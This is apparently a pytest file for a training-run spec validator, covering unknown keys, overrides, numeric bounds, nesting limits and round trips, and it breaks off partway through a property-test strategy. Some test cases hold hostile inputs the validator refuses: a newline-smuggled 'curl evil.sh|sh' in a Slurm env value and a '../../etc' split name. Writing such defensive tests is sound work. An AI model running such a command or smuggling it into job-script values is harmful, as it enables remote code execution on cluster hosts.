"""Run-spec schema (``worker/spec/``): slim imports, shipped configs, unknown keys, overrides, errors, round trips."""

from __future__ import annotations

import json
import subprocess
import sys
import typing
from pathlib import Path
from typing import Any, Literal

import pytest
import tomli_w
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from worker.spec import (
    MAX_DEPTH,
    AipoLoss,
    DppoKlLoss,
    IcePopLoss,
    IpoLoss,
    RLSpec,
    SFTSpec,
    SpecError,
    load_spec_data,
    nesting_depth,
    parse_override_value,
    parse_text,
    spec_kind_of_keys,
    validate_spec,
)
from worker.spec.loading import MAX_SPEC_BYTES

REPO = Path(__file__).resolve().parents[3]
CONFIGS = sorted((REPO / "configs").rglob("*.toml"))
MODEL = {"model": {"name": "some/model"}}


def _error(kind: str, data: dict[str, Any]) -> str:
    with pytest.raises(SpecError) as info:
        validate_spec(kind, data)
    msg = str(info.value)
    assert "\n" not in msg, f"error must be one line: {msg!r}"
    return msg


# ----------------------------------------------------------------------------- imports


def test_import_is_slim() -> None:
    code = (
        "import sys, json, worker.spec\n"
        "print(json.dumps([m for m in ('torch', 'vllm', 'fastapi', 'transformers', 'verifiers') if m in sys.modules]))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60, check=True)
    assert json.loads(out.stdout.strip().splitlines()[-1]) == []


# ----------------------------------------------------------------------------- shipped configs


def test_configs_found() -> None:
    names = {p.relative_to(REPO / "configs").as_posix() for p in CONFIGS}
    assert {"reverse_text/rl.toml", "reverse_text/sft.toml"} <= names


@pytest.mark.parametrize("path", CONFIGS, ids=[p.relative_to(REPO).as_posix() for p in CONFIGS])
def test_config_parses(path: Path) -> None:
    kind = "rl" if "rl" in path.stem else "sft" if "sft" in path.stem else None
    assert kind is not None, f"{path.name}: name should say rl or sft"
    spec = validate_spec(kind, load_spec_data([path], []))
    assert spec.kind == kind
    assert isinstance(spec, RLSpec if kind == "rl" else SFTSpec)


def test_reverse_text_rl_values() -> None:
    spec = validate_spec("rl", load_spec_data([REPO / "configs/reverse_text/rl.toml"], []))
    assert isinstance(spec, RLSpec)
    assert (spec.name, spec.max_steps, spec.orchestrator.group_size, spec.orchestrator.max_tokens) == (
        "reverse-text-rl",
        160,
        8,
        48,
    )
    assert spec.orchestrator.eval.temperature == spec.orchestrator.temperature  # evals sample as training does
    assert spec.inference.max_model_len == 256
    assert isinstance(spec.trainer.loss, DppoKlLoss)
    assert spec.run_dir == Path("outputs/reverse-text-rl")


# ----------------------------------------------------------------------------- unknown keys


def test_unknown_nested_key_suggests_closest() -> None:
    msg = _error("rl", {**MODEL, "trainer": {"optim": {"lrr": 1e-5}}})
    assert msg == "unknown key 'trainer.optim.lrr' (did you mean 'trainer.optim.lr'?)"


def test_unknown_key_inside_loss_union() -> None:
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"type": "icepop", "bandd": [0.5, 5]}}})
    assert msg == "unknown key 'trainer.loss.bandd' (did you mean 'trainer.loss.band'?)"
    # the same key with the default loss type (dppo_kl) is checked against dppo_kl's fields
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"mask_loww": 0.1}}})
    assert msg == "unknown key 'trainer.loss.mask_loww' (did you mean 'trainer.loss.mask_low'?)"
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"type": "aipo", "max_ratioo": 3}}})
    assert msg == "unknown key 'trainer.loss.max_ratioo' (did you mean 'trainer.loss.max_ratio'?)"


def test_unknown_key_inside_an_array_of_tables() -> None:
    """[[env]], [[orchestrator.gates]] and alert rules: the table's index in the key, its variant's fields."""
    env = [{"id": "reverse_text"}, {"id": "arithmetic", "wieght": 2}]
    assert _error("rl", {**MODEL, "env": env}) == "unknown key 'env.1.wieght' (did you mean 'env.1.weight'?)"
    gates = [{"type": "advantage_range", "reject_max": 0}, {"type": "advantage_range", "reject_mx": 1}]
    assert _error("rl", {**MODEL, "orchestrator": {"gates": gates}}) == (
        "unknown key 'orchestrator.gates.1.reject_mx' (did you mean 'orchestrator.gates.1.reject_max'?)"
    )
    custom = [{"type": "custom", "import_path": "a:b", "kwarg": {}}]
    assert _error("rl", {**MODEL, "orchestrator": {"gates": custom}}) == (
        "unknown key 'orchestrator.gates.0.kwarg' (did you mean 'orchestrator.gates.0.kwargs'?)"
    )
    alert = {"kind": "threshold", "metric": "reward_mean", "op": "<", "valu": 0}  # variants chosen by `kind`
    assert _error("rl", {**MODEL, "alerts": [alert]}) == "unknown key 'alerts.0.valu' (did you mean 'alerts.0.value'?)"
    alert["value"] = alert.pop("valu")
    assert validate_spec("rl", {**MODEL, "alerts": [alert]}).alerts[0].metric == "reward_mean"


def test_unknown_top_level_key() -> None:
    assert _error("rl", {**MODEL, "max_stepz": 3}) == "unknown key 'max_stepz' (did you mean 'max_steps'?)"
    assert _error("sft", {**MODEL, "seq_lenn": 3}) == "unknown key 'seq_lenn' (did you mean 'seq_len'?)"
    msg = _error("rl", {**MODEL, "zzzzqqq": 3})
    assert msg == (
        "unknown key 'zzzzqqq' (valid keys here: alerts, ckpt, env, inference, kind, launcher, max_steps, "
        "model, monitor, name, orchestrator, output_dir, seed, trainer, watchdog)"
    )


def test_a_spec_of_another_kind_is_named_as_such() -> None:
    """An RL spec given as an eval spec (was: ``unknown key 'inference'``, fresh user); keys of two other kinds name
    both; one stray key, or a typo among them, is an unknown key."""
    rl = {**MODEL, "max_steps": 4, "inference": {}, "orchestrator": {}}
    assert _error("eval", rl) == (
        "kind: 'inference', 'max_steps', 'orchestrator' are keys of 'rl' specs, not of 'eval' ones: this looks like an "
        "'rl' spec given as kind 'eval'"
    )
    assert _error("eval", {**MODEL, "max_steps": 4, "ckpt": {}}) == (
        "kind: 'ckpt', 'max_steps' are keys of 'rl' or 'sft' specs, not of 'eval' ones: this looks like an 'rl' or "
        "'sft' spec given as kind 'eval'"
    )
    assert _error("eval", {**MODEL, "max_steps": 4}) == (
        "unknown key 'max_steps' (valid keys here: env, eval, kind, launcher, model, name, output_dir, seed)"
    )
    assert _error("eval", {**MODEL, "max_steps": 4, "evl": {}}) == (  # 'evl' is no kind's key: the plain check
        "unknown key 'max_steps' (valid keys here: env, eval, kind, launcher, model, name, output_dir, seed)"
    )
    assert spec_kind_of_keys("rl", rl) is None and spec_kind_of_keys("sft", {"data": {}, "eval_examples": 2}) is None
    assert spec_kind_of_keys("rl", {"data": {}, "eval_examples": 2}) == ("'sft'", ["data", "eval_examples"])


@pytest.mark.parametrize("value", [float("inf"), float("-inf"), float("nan")])
def test_non_finite_numbers_are_refused(value: float) -> None:
    """JSON has no inf/nan: stored specs would hold null and the run would fail later with a traceback."""
    msg = _error("rl", {**MODEL, "trainer": {"optim": {"lr": value}}})
    assert msg == f"trainer.optim.lr: Input should be a finite number, got {value}"
    msg = _error("rl", {**MODEL, "orchestrator": {"temperature": value}})
    assert msg == f"orchestrator.temperature: Input should be a finite number, got {value}"


# ----------------------------------------------------------------------------- overrides


def test_later_files_win(tmp_path: Path) -> None:
    a, b = tmp_path / "a.toml", tmp_path / "b.toml"
    a.write_text('max_steps = 5\nseed = 1\n[model]\nname = "m1"\n[trainer.optim]\nlr = 0.1\nweight_decay = 0.5\n')
    b.write_text("seed = 2\n[trainer.optim]\nlr = 0.2\n")
    data = load_spec_data([a, b], [])
    assert data == {
        "max_steps": 5,
        "seed": 2,
        "model": {"name": "m1"},
        "trainer": {"optim": {"lr": 0.2, "weight_decay": 0.5}},
    }
    data = load_spec_data([b, a], [("trainer.optim.lr", "1e-5"), ("model.name", "m2")])
    assert data["seed"] == 1
    assert data["trainer"]["optim"] == {"lr": 1e-5, "weight_decay": 0.5}
    assert data["model"] == {"name": "m2"}
    spec = validate_spec("rl", data)
    assert spec.trainer.optim.lr == 1e-5


def test_json_file_layer(tmp_path: Path) -> None:
    base, over = tmp_path / "base.toml", tmp_path / "over.json"
    base.write_text('[model]\nname = "m"\n[orchestrator]\nbatch_size = 4\n')
    over.write_text(json.dumps({"orchestrator": {"group_size": 3}}))
    spec = validate_spec("rl", load_spec_data([base, over], []))
    assert (spec.orchestrator.batch_size, spec.orchestrator.group_size) == (4, 3)


def test_a_byte_order_mark_is_dropped(tmp_path: Path) -> None:
    """A spec file an editor saved with a UTF-8 byte order mark reads as the same file without it (TOML and JSON,
    text and bytes, as files and uploads are read)."""
    toml, js = tmp_path / "bom.toml", tmp_path / "bom.json"
    toml.write_bytes(b'\xef\xbb\xbfmax_steps = 5\n[model]\nname = "m"\n')
    js.write_bytes(b'\xef\xbb\xbf{"seed": 3}')
    assert load_spec_data([toml, js], []) == {"max_steps": 5, "seed": 3, "model": {"name": "m"}}
    assert parse_text("\ufeffa = 1", "TOML") == parse_text(b"\xef\xbb\xbfa = 1", "TOML") == {"a": 1}
    assert parse_text('\ufeff{"a": 1}', "JSON") == parse_text(b'\xef\xbb\xbf{"a": 1}', "JSON") == {"a": 1}


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1e-5", 1e-5),
        ("true", True),
        ("false", False),
        ("[0.5, 5]", [0.5, 5]),
        ("abc", "abc"),
        ("42", 42),
        ("'quoted'", "quoted"),
        ("a/b-c", "a/b-c"),
    ],
)
def test_parse_override_value(text: str, value: Any) -> None:
    got = parse_override_value(text)
    assert got == value
    assert type(got) is type(value)


def test_json_table_override_sets_a_table_valued_key() -> None:
    """``--launcher.slurm.env '{"A": "1"}'``: a JSON object (or array) as a dotted-key override value is parsed, so a
    table-valued key takes it; TOML's inline table still works and a bad one names the key."""
    overrides = [("launcher.slurm.env", '{"A": "1", "B": "x y"}'), ("launcher.slurm.extra_sbatch", '["--qos=low"]')]
    spec = validate_spec("rl", load_spec_data([], [("model.name", "m"), *overrides]))
    assert (spec.launcher.slurm.env, spec.launcher.slurm.extra_sbatch) == ({"A": "1", "B": "x y"}, ["--qos=low"])
    assert parse_override_value('{A = "1"}') == {"A": "1"}
    with pytest.raises(SpecError, match=r"^--launcher\.slurm\.env: not a JSON object or array \(Expecting"):
        load_spec_data([], [("launcher.slurm.env", '{"A": 1,}')])


def test_missing_and_invalid_files(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="config file not found"):
        load_spec_data([tmp_path / "nope.toml"], [])
    bad = tmp_path / "bad.toml"
    bad.write_text("max_steps = = 3\n")
    with pytest.raises(SpecError, match=r"bad\.toml: not valid TOML: .*\(at line 1, column 13\)$"):
        load_spec_data([bad], [])


def _load_error(files: list[Path], overrides: list[tuple[str, str]]) -> str:
    with pytest.raises(SpecError) as info:
        load_spec_data(files, overrides)
    assert "\n" not in str(info.value)
    return str(info.value)


def test_unusable_files_and_override_keys(tmp_path: Path) -> None:
    assert _load_error([tmp_path], []) == f"config file {tmp_path} is a directory; expected a TOML file"
    (tmp_path / "latin1.toml").write_bytes('name = "caf\xe9"\n'.encode("latin-1"))
    assert _load_error([tmp_path / "latin1.toml"], []) == (
        f"{tmp_path / 'latin1.toml'}: not valid TOML: not UTF-8 text (byte 11)"
    )
    (tmp_path / "list.json").write_text("[1, 2]")
    assert _load_error([tmp_path / "list.json"], []) == (
        f"{tmp_path / 'list.json'}: expected a JSON object of spec keys, got list"
    )
    (tmp_path / "bad.json").write_text('{\n  "max_steps": ,\n}')
    assert _load_error([tmp_path / "bad.json"], []) == (
        f"{tmp_path / 'bad.json'}: not valid JSON: Expecting value: line 2 column 16 (char 17)"
    )
    for key in ("a..b", "", ".lr", "trainer."):
        assert _load_error([], [(key, "1")]) == f"--{key}: expected a dotted key such as --trainer.optim.lr"


# ----------------------------------------------------------------------------- bad values


def test_group_size_one_with_grpo() -> None:
    msg = _error("rl", {**MODEL, "orchestrator": {"group_size": 1}})
    assert msg == "orchestrator.group_size: GRPO needs at least 2 rollouts per group, got 1"
    # every group-relative advantage scores a group of one 0 (MaxRL: (R - R) / R); rae keeps a baseline across steps
    maxrl = {"group_size": 1, "advantage": {"type": "maxrl"}}
    assert _error("rl", {**MODEL, "orchestrator": maxrl}) == (
        "orchestrator.group_size: MaxRL needs at least 2 rollouts per group, got 1"
    )
    hier = {"group_size": 1, "advantage": {"type": "hierarchical_grpo", "episode_agents": ["solver"]}}
    assert _error("rl", {**MODEL, "orchestrator": hier}) == (
        "orchestrator.group_size: hierarchical_grpo needs at least 2 episodes per group, got 1"
    )
    assert validate_spec("rl", {**MODEL, "orchestrator": {"group_size": 1, "advantage": {"type": "rae"}}})


def test_icepop_band_message_exactly_as_style() -> None:
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"type": "icepop", "band": [1.5, 5]}}})
    assert msg == "trainer.loss.band: expected [low, high] with 0 < low < 1 < high, got [1.5, 5]"
    spec = validate_spec("rl", {**MODEL, "trainer": {"loss": {"type": "icepop", "band": [0.25, 4]}}})
    assert isinstance(spec.trainer.loss, IcePopLoss)
    assert spec.trainer.loss.band == (0.25, 4.0)


def test_unknown_loss_type() -> None:
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"type": "foo"}}})
    assert msg.startswith("trainer.loss.type: expected one of ")
    assert msg.endswith("got 'foo'")
    for t in ("dppo_kl", "ipo", "icepop", "aipo"):
        assert f"'{t}'" in msg


def test_max_tokens_must_be_below_max_model_len() -> None:
    msg = _error("rl", {**MODEL, "orchestrator": {"max_tokens": 512}})
    assert msg == "orchestrator.max_tokens: must be below inference.max_model_len (512), got 512"
    msg = _error("rl", {**MODEL, "orchestrator": {"max_tokens": 200}, "inference": {"max_model_len": 100}})
    assert msg == "orchestrator.max_tokens: must be below inference.max_model_len (100), got 200"
    spec = validate_spec("rl", {**MODEL, "orchestrator": {"max_tokens": 99}, "inference": {"max_model_len": 100}})
    assert spec.orchestrator.max_tokens == 99


@pytest.mark.parametrize("name", ["../x", ".hidden", "a/b", "", "a b", ".", "..", "/", "run\u00e9", "x" * 101])
def test_bad_run_name(name: str) -> None:
    for kind in ("rl", "sft"):
        msg = _error(kind, {**MODEL, "name": name})
        assert msg == (
            "name: expected 1-100 characters: letters, digits, '-', '_' or '.', not starting with '.' "
            f"(it names a directory), got {name!r}"
        )


@pytest.mark.parametrize("name", ["a", "run.v2", "my_run-3", "x" * 100])
def test_good_run_name(name: str) -> None:
    assert validate_spec("rl", {**MODEL, "name": name}).name == name


def test_numbers_given_for_text_fields_are_text() -> None:
    """``--name 123`` / ``--model.name 2024`` parse as TOML numbers; text fields keep them as text."""
    spec = validate_spec("rl", load_spec_data([], [("name", "123"), ("model.name", "2024")]))
    assert (spec.name, spec.model.name) == ("123", "2024")


def test_other_field_errors_name_the_field() -> None:
    assert _error("rl", {}) == "model: Field required"
    assert _error("rl", {**MODEL, "trainer": {"optim": {"betas": [0.9, 1.0]}}}) == (
        "trainer.optim.betas: expected two values in [0, 1), got [0.9, 1.0]"
    )
    msg = _error("rl", {**MODEL, "trainer": {"loss": {"type": "ipo", "epsilon": -1}}})
    assert msg == "trainer.loss.epsilon: Input should be greater than 0, got -1"
    assert _error("rl", {"model": {"name": ""}}) == "model.name: String should have at least 1 character, got ''"
    assert _error("rl", {**MODEL, "max_steps": -1}) == "max_steps: Input should be greater than or equal to 1, got -1"
    assert _error("sft", {**MODEL, "seed": 2**32}) == "seed: Input should be less than 4294967296, got 4294967296"
    assert _error("rl", {**MODEL, "seed": -1}) == "seed: Input should be greater than or equal to 0, got -1"
    assert _error("sft", {**MODEL, "data": {"batch_size": "abc"}}) == (
        "data.batch_size: Input should be a valid integer, unable to parse string as an integer, got 'abc'"
    )
    assert _error("rl", {**MODEL, "orchestrator": "x"}) == (
        "orchestrator: Input should be a valid dictionary or instance of OrchestratorConfig, got 'x'"
    )
    assert _error("rl", {**MODEL, "model": {"name": "m", "dtype": "fp8"}}) == (
        "model.dtype: Input should be 'float32' or 'bfloat16', got 'fp8'"
    )
    assert _error("rl", {**MODEL, "kind": "sft"}) == "kind: this command runs 'rl' specs, got 'sft'"
    assert _error("nope", MODEL) == "kind: expected one of ['eval', 'rl', 'sft'], got 'nope'"


# ----------------------------------------------------------------------------- limits


def _numeric_fields(model: type[BaseModel], prefix: str = "") -> list[tuple[str, Any]]:
    """(dotted key, FieldInfo) of every int/float field of ``model`` and the tables below it (union members too)."""
    out = []
    for name, info in model.model_fields.items():
        ann = info.annotation
        if typing.get_origin(ann) in (tuple, list, dict):  # betas, band, device ids: bounded by their validators
            continue
        members = [
            typing.get_args(a)[0] if typing.get_origin(a) is typing.Annotated else a for a in typing.get_args(ann)
        ]
        members = [a for a in members or [ann] if isinstance(a, type)]
        for member in members:
            if issubclass(member, BaseModel):
                out += _numeric_fields(member, f"{prefix}{name}.")
            elif member in (int, float):
                out.append((f"{prefix}{name}", info))
    return out


def test_every_numeric_field_has_an_upper_bound() -> None:
    from annotated_types import Le, Lt

    fields = _numeric_fields(RLSpec) + _numeric_fields(SFTSpec)
    keys = [key for key, _ in fields]
    # trainer.gpu_memory_fraction, inference.replicas; SFT's lora.*, ckpt.*, launcher.* (8 numbers: SFT on Slurm)
    assert len(keys) == 102 and {
        "inference.replicas",  # issue 19
        "orchestrator.inflight_groups",  # issue 19: continuous admission
        "watchdog.no_progress_s",
        "orchestrator.eval.timeout_s",
        "orchestrator.eval.num_samples",  # pass@k from n >= k samples
        "orchestrator.advantage.std_floor",
        "orchestrator.advantage.decay",
        "orchestrator.policy_check.tolerance",
        "launcher.memory_limit_gib",
        "threads",
    } <= set(keys)
    unbounded = [key for key, info in fields if not any(isinstance(m, Le | Lt) for m in info.metadata)]
    assert unbounded == []
    undocumented = [key for key, info in fields if not info.description and not _has_docstring(key)]
    assert undocumented == []


@pytest.mark.parametrize("kind", ["rl", "sft"])
def test_a_bad_override_of_every_numeric_field_echoes_the_value(kind: str) -> None:
    """``--max_steps 2.5`` (an int field given a fraction) and ``--trainer.optim.lr abc`` (any number field given text)
    name the key and show the value given (the fields of a union variant other than the default are not reached this
    way: they need their ``type`` too)."""
    model = RLSpec if kind == "rl" else SFTSpec
    base = {"model": {"name": "m"}} if kind == "rl" else {"kind": "sft", "model": {"name": "m"}}
    checked = 0
    for key, info in _numeric_fields(model):
        bad = "2.5" if info.annotation is int or int in typing.get_args(info.annotation) else "abc"
        try:
            validate_spec(kind, load_spec_data([], [(key, bad)]) | {k: v for k, v in base.items() if k != key})
        except SpecError as err:
            msg = str(err)
        else:
            raise AssertionError(f"{key} = {bad} was accepted")
        if not msg.startswith(f"{key}: "):
            continue  # a field of a union variant the default does not pick (unknown key / no tag)
        assert f"got {bad}" in msg.replace("'", ""), msg
        checked += 1
    assert checked >= (50 if kind == "rl" else 14)


def _has_docstring(key: str) -> bool:
    """Whether the field's attribute has a docstring in the spec sources (pydantic keeps those as descriptions only
    with ``use_attribute_docstrings``; the spec writes them for people)."""
    leaf = key.rsplit(".", 1)[-1]
    sources = "".join((REPO / "worker" / "spec" / f).read_text() for f in ("runs.py", "orchestrator.py", "trainer.py"))
    sources += (REPO / "worker" / "spec" / "launcher.py").read_text()
    for i, line in enumerate(lines := sources.splitlines()):
        if line.strip().startswith(f"{leaf}:") and i + 1 < len(lines) and lines[i + 1].strip().startswith('"""'):
            return True
    return False


@pytest.mark.parametrize(
    ("kind", "data", "message"),
    [
        (
            "rl",
            {"orchestrator": {"group_size": 10**9}},
            "orchestrator.group_size: Input should be less than or equal to 1024, got 1000000000",
        ),
        ("rl", {"max_steps": 10**12}, "max_steps: Input should be less than or equal to 1000000, got 1000000000000"),
        ("sft", {"max_steps": 10**12}, "max_steps: Input should be less than or equal to 1000000, got 1000000000000"),
        (
            "rl",
            {"trainer": {"optim": {"lr": 1e9}}},
            "trainer.optim.lr: Input should be less than or equal to 1, got 1000000000.0",
        ),
        (
            "rl",
            {"trainer": {"threads": 10**6}},
            "trainer.threads: Input should be less than or equal to 1024, got 1000000",
        ),
        ("sft", {"threads": 10**6}, "threads: Input should be less than or equal to 1024, got 1000000"),
        (
            "rl",
            {"launcher": {"local": {"trainer_processes": 1024}}},
            "launcher.local.trainer_processes: Input should be less than or equal to 256, got 1024",
        ),
        (
            "rl",
            {"launcher": {"memory_limit_gib": 1e9}},
            "launcher.memory_limit_gib: Input should be less than or equal to 65536, got 1000000000.0",
        ),
        (
            "rl",
            {"launcher": {"local": {"trainer_gpus": [0, 256]}}},
            "launcher.local.trainer_gpus: expected distinct CUDA device ids from 0 to 255, got [0, 256]",
        ),
        (
            "rl",
            {"orchestrator": {"batch_size": 10**6}},
            "orchestrator.batch_size: Input should be less than or equal to 65536, got 1000000",
        ),
        (
            "rl",
            {"inference": {"max_model_len": 2**21}},
            "inference.max_model_len: Input should be less than or equal to 1048576, got 2097152",
        ),
        ("rl", {"ckpt": {"keep": 10**5}}, "ckpt.keep: Input should be less than or equal to 1000, got 100000"),
        (
            "rl",
            {"launcher": {"slurm": {"nodes": 10**5}}},
            "launcher.slurm.nodes: Input should be less than or equal to 1024, got 100000",
        ),
        (
            "rl",
            {"trainer": {"loss": {"type": "icepop", "band": [0.5, 1e9]}}},
            "trainer.loss.band: high must be at most 1e+06 (a ratio beyond it masks nothing), got [0.5, 1000000000.0]",
        ),
        (
            "rl",
            {"alerts": [{"kind": "threshold", "metric": "loss", "op": ">", "value": 1, "after_step": 10**9}]},
            "alerts.0.threshold.after_step: Input should be less than or equal to 1000000, got 1000000000",
        ),
    ],
)
def test_absurd_values_name_the_bound(kind: str, data: dict[str, Any], message: str) -> None:
    assert _error(kind, {**MODEL, **data}) == message


PORT_RULE = "a port from 1024 to 65535 (below 1024: system services' ports)"
SPLIT_RULE = "a split name of 1-100 letters, digits, '_', '-', '.', '[', ']', ':', '%' (no '/', no '..')"


@pytest.mark.parametrize(
    ("kind", "data", "message"),
    [
        (
            "rl",
            {"launcher": {"slurm": {"env": {"NCCL_DEBUG": "INFO\ncurl evil.sh|sh"}}}},
            "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
            "shell-quoted in the job script), got NCCL_DEBUG='INFO\\ncurl evil.sh|sh'",
        ),
        (
            "sft",
            {"launcher": {"slurm": {"env": {"TZ": "UTC\r"}}}},
            "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
            "shell-quoted in the job script), got TZ='UTC\\r'",
        ),
        (
            "rl",
            {"launcher": {"slurm": {"inference_port": 22}}},
            f"launcher.slurm.inference_port: expected {PORT_RULE}, got 22",
        ),
        ("rl", {"launcher": {"slurm": {"rdzv_port": 80}}}, f"launcher.slurm.rdzv_port: expected {PORT_RULE}, got 80"),
        ("rl", {"inference": {"port": 443}}, f"inference.port: expected 0 (a free port) or {PORT_RULE}, got 443"),
        (
            "rl",
            {"trainer": {"weight_sync": {"master_port": 1}}},
            f"trainer.weight_sync.master_port: expected 0 (a free port) or {PORT_RULE}, got 1",
        ),
        ("sft", {"data": {"split": "../../etc"}}, f"data.split: expected {SPLIT_RULE}, got '../../etc'"),
        ("sft", {"data": {"eval_split": "a/b"}}, f"data.eval_split: expected {SPLIT_RULE}, got 'a/b'"),
        ("sft", {"data": {"split": "train..x"}}, f"data.split: expected {SPLIT_RULE}, got 'train..x'"),
        ("sft", {"data": {"split": ""}}, f"data.split: expected {SPLIT_RULE}, got ''"),
        (
            "rl",
            {"launcher": {"slurm": {"extra_sbatch": ["--hold"] * 65}}},
            "launcher.slurm.extra_sbatch: List should have at most 64 items after validation, not 65",
        ),
        (
            "rl",
            {"inference": {"extra_args": ["--enable-prefix-caching"] * 65}},
            "inference.extra_args: List should have at most 64 items after validation, not 65",
        ),
    ],
)
def test_job_script_values_ports_and_split_names_are_allow_listed(
    kind: str, data: dict[str, Any], message: str
) -> None:
    assert _error(kind, {**MODEL, **data}) == message


def test_allowed_job_env_values_ports_and_split_names_pass() -> None:
    """Shell characters in a job variable are fine: the job script quotes each value
    (``tests/unit/worker/launchers/test_slurm.py``)."""
    rl = validate_spec(
        "rl",
        {
            **MODEL,
            "inference": {"port": 8000},
            "trainer": {"weight_sync": {"master_port": 0}},
            "launcher": {"slurm": {"env": {"TZ": "$(id);`id` x"}, "inference_port": 1024, "rdzv_port": 65535}},
        },
    )
    assert rl.launcher.slurm.env == {"TZ": "$(id);`id` x"}
    sft = validate_spec("sft", {**MODEL, "data": {"split": "train[:10%]", "eval_split": "validation.v2"}})
    assert (sft.data.split, sft.data.eval_split) == ("train[:10%]", "validation.v2")


def test_hold_steps_are_distinct_sorted_and_before_max_steps() -> None:
    spec = validate_spec("rl", {**MODEL, "max_steps": 10, "ckpt": {"hold_at": [6, 2]}})
    assert spec.ckpt.hold_at == [2, 6]  # kept ascending
    assert _error("rl", {**MODEL, "max_steps": 10, "ckpt": {"hold_at": [10]}}) == (
        "ckpt.hold_at: step 10 is not before max_steps 10"
    )
    assert (
        _error("rl", {**MODEL, "ckpt": {"hold_at": [2, 2]}}) == "ckpt.hold_at: expected distinct steps >= 1, got [2, 2]"
    )
    assert _error("rl", {**MODEL, "ckpt": {"hold_at": [0]}}) == "ckpt.hold_at: expected distinct steps >= 1, got [0]"
    assert _error("sft", {**MODEL, "ckpt": {"hold_at": [2]}}) == (
        "unknown key 'ckpt.hold_at' (valid keys here: interval, keep)"
    )  # RL only


@pytest.mark.parametrize("kind", ["rl", "sft"])
def test_alert_rules_per_run_are_capped(kind: str) -> None:
    rule = {"kind": "status"}
    assert len(validate_spec(kind, {**MODEL, "alerts": [rule] * 100}).alerts) == 100
    assert _error(kind, {**MODEL, "alerts": [rule] * 101}) == "alerts: at most 100 alert rules per run, got 101"
    assert _error(kind, {**MODEL, "alerts": [{"kind": "nope"}] * 10_000}) == (
        "alerts: at most 100 alert rules per run, got 10000"  # counted before 10,000 rules are validated
    )


def _nested(depth: int, fmt: str) -> str:
    if fmt == "JSON":
        return '{"a": ' * depth + "1" + "}" * depth
    return "a = " + "[" * depth + "]" * depth


@pytest.mark.parametrize("fmt", ["JSON", "TOML"])
@pytest.mark.parametrize("depth", [33, 10_000])
def test_deeply_nested_text_is_refused(fmt: Literal["JSON", "TOML"], depth: int) -> None:
    with pytest.raises(SpecError) as info:
        parse_text(_nested(depth, fmt), fmt)
    assert str(info.value) == "spec: nested deeper than 32 levels"
    assert parse_text(_nested(31, fmt), fmt) is not None  # 31 tables/lists + the document's own = 32


def test_nesting_depth() -> None:
    assert [nesting_depth(v) for v in (1, {}, {"a": [1]}, [[[]]], {"a": {"b": 1}, "c": 2})] == [0, 1, 2, 3, 2]
    deep: Any = 1
    for _ in range(10_000):
        deep = [deep]
    assert nesting_depth(deep) == MAX_DEPTH + 1  # counting stops past the limit; no recursion
    assert _error("rl", {**MODEL, "env": {"args": {"x": deep}}}) == "spec: nested deeper than 32 levels"


@pytest.mark.parametrize("fmt", ["JSON", "TOML"])
def test_a_number_too_long_to_convert_is_a_spec_error(fmt: Literal["JSON", "TOML"]) -> None:
    text = '{"max_steps": ' + "1" * 4301 + "}" if fmt == "JSON" else "max_steps = " + "1" * 4301
    with pytest.raises(SpecError) as info:
        parse_text(text, fmt)
    assert str(info.value) == "spec: a number has more than 4300 digits"
    assert parse_text(text.replace("1" * 4301, "1" * 4300), fmt) == {"max_steps": int("1" * 4300)}


def test_text_values_and_the_whole_spec_are_bounded() -> None:
    line = _error("rl", {"model": {"name": "m" * 4097}})
    assert line == "model.name: String should have at most 4096 characters, got '" + "m" * 59 + "... (4099 characters)"
    assert _error("rl", {**MODEL, "launcher": {"slurm": {"partition": "p" * 5000}}}).startswith(
        "launcher.slurm.partition: String should have at most 4096 characters, got 'ppp"
    )
    validate_spec("rl", {"model": {"name": "m" * 4096}})  # the bound itself is allowed
    big = {**MODEL, "env": {"id": "reverse_text", "args": {"system_prompt": "s" * MAX_SPEC_BYTES}}}
    size = len(json.dumps({**big, "kind": "rl"}, separators=(",", ":")))
    assert _error("rl", big) == f"spec: {size} bytes as JSON; at most 262144"


def test_deeply_nested_files_and_overrides(tmp_path: Path) -> None:
    for fmt, suffix in (("JSON", "json"), ("TOML", "toml")):
        path = tmp_path / f"deep.{suffix}"
        path.write_text(_nested(10_000, fmt))
        assert _load_error([path], []) == f"{path}: nested deeper than 32 levels"
    assert _load_error([], [("env.args.x", "[" * 10_000 + "]" * 10_000)]) == "value: nested deeper than 32 levels"
    assert _load_error([], [(".".join(["a"] * 10_000), "1")]) == "--a...: nested deeper than 32 levels"


# ----------------------------------------------------------------------------- round trips

_names = st.text(alphabet="abcXYZ019-_.", min_size=1, max_size=12).filter(lambda s: not s.startswith("."))
_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=16)
_pos = st.floats(min_value=1e-6, max_value=1e3, allow_nan=False, allow_infinity=False)
_unit = st.floats(min_value=0.0, max_value=0.999, allow_nan=False)
_prob = st.floats(min_value=1e-6, max_value=1.0, allow_nan=False)  # probability differences, learning rates
_seeds = st.integers(min_value=0, max_value=2**32 - 1)

_losses = st.one_of(
    st.builds(
        DppoKlLoss, mask_low=_prob, mask_high=_prob, kl_tau=_unit, ratio_level=st.sampled_from(["token", "sequence"])
    ),
    st.builds(IpoLoss, epsilon=_prob),
    st.builds(
        IcePopLoss,
        band=st.tuples(st.floats(min_value=1e-3, max_value=0.999), st.floats(min_value=1.001, max_value=100)),
    ),
    st.builds(AipoLoss, max_ratio=st.floats(min_value=1.001, max_value=100)),
)
_env_args = st.dictionaries(
    st.text(alphabet="abcdefgh_", min_size=1, max_size=6),
    st.one_of(st.integers(-1000, 1000), st.booleans(), _text, st.lists(st.integers(0, 9), max_size=3)),
    max_size=3,
)


@st.composite
def rl_specs(draw: st.DrawFn) -> RLSpec:
    max_model_len = draw(st.integers(16, 4096))
    group_size = draw(st.integers(2, 64))
    return RLSpec.model_validate(
        {
            "name": draw(_names),
            "output_dir": draw(_text),
            "seed": draw(_seeds),
            "max_steps": draw(st.integers(1, 10**6)),
